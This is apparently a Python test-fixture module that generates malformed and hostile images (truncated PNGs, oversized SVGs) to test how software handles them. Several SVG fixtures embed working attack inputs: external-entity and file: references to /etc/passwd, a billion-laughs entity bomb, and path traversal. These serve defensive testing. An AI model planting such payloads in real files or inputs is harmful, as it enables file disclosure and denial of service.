def png_truncated(folder: Path) -> Path:
    """A real PNG of noise, cut off halfway (a download that stopped)."""
    noise = bytes((i * 7919 + i // 300 * 104729) % 251 for i in range(300 * 301))
    rows = b"".join(b"\x00" + noise[r * 300:(r + 1) * 300] for r in range(300))
    whole = png_bytes(300, 300, zlib.compress(rows))
    return _picture(folder, "cut.png", whole[:len(whole) // 2])


def text_as_png(folder: Path) -> Path:
    return _picture(folder, "map.png", b"This is a text file, not a picture.\n" * 20)


def _svg(folder: Path, body: str, head: str = "") -> Path:
    svg = (f'<?xml version="1.0"?>\n{head}<svg xmlns="http://www.w3.org/2000/svg" '
           f'xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="50">{body}</svg>')
    return _picture(folder, "map.svg", svg.encode())


def svg_file_reference(folder: Path) -> Path:
    return _svg(folder, '<image href="file:///etc/passwd" width="10" height="10"/>')


def svg_http_reference(folder: Path) -> Path:
    return _svg(folder, '<image xlink:href="http://127.0.0.1:9/map.png" width="10" '
                'height="10"/>')


def svg_external_entity(folder: Path) -> Path:
    return _svg(folder, "<text>&secret;</text>",
                '<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>\n')


def svg_entity_bomb(folder: Path) -> Path:
    lines = ['<!ENTITY a0 "lol">'] + [
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10)]
    return _svg(folder, "<text>&a9;</text>", f"<!DOCTYPE svg [{''.join(lines)}]>\n")


def svg_outside_file(folder: Path) -> Path:
    """An SVG that draws a file beside the project (one it may not read)."""
    (folder / "outside.png").write_bytes(png_bytes(4, 4))
    project = folder / "project"
    project.mkdir(exist_ok=True)
    return _svg(project, '<image href="../../outside.png" width="10" height="10"/>')


def svg_css_reference(folder: Path) -> Path:
    return _svg(folder, '<style>rect { fill: url("file:///etc/passwd#x") }</style>'
                '<rect width="10" height="10"/>')


def svg_elements_bomb(folder: Path) -> Path:
    """An SVG of 19 MB holding four million empty groups."""
    return _svg(folder, "<g/>" * 4_000_000)


BOMBS.update({
    "svg 4M elements": svg_elements_bomb,
    "png 30,000 × 30,000": png_bomb, "png cut off": png_truncated,
    "text named .png": text_as_png, "svg file: image": svg_file_reference,
    "svg http: image": svg_http_reference, "svg external entity": svg_external_entity,
    "svg entity bomb": svg_entity_bomb, "svg file outside": svg_outside_file,
    "svg css url(file:)": svg_css_reference,
})
